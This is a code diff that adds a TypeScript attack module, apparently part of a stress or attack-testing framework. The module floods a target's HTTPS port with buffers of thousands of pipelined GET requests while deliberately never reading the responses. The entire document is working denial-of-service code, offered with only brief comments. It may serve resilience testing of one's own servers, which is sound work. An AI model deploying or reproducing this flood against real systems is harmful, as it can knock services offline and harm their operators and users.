@@ -1,0 +1,21 @@
+import { type Attack, createAssault } from './attack.ts'
+
+const request = 'GET / HTTP/1.1\r\n\r\n'
+const requestsAtOnce = 3640 // 64 KiB
+const many = Buffer.from(request.repeat(requestsAtOnce))
+/** A connection from which nothing is read any more is given up after this, milliseconds. */
+const patienceMs = 1_000
+
+/** A stranger's requests, one behind the other, whose answers nobody reads. */
+export const pipelinedGets: Attack = (target, force) => {
+  const assault = createAssault(force)
+  return assault.everywhere(async (worker) => {
+    const socket = await assault.connect(target.httpsPort, worker)
+    if (!socket) return
+    socket.pause()
+    while (!assault.isOver() && (await assault.write(socket, many, patienceMs))) {
+      assault.seen.units += requestsAtOnce
+    }
+    assault.leave(socket)
+  })
+}
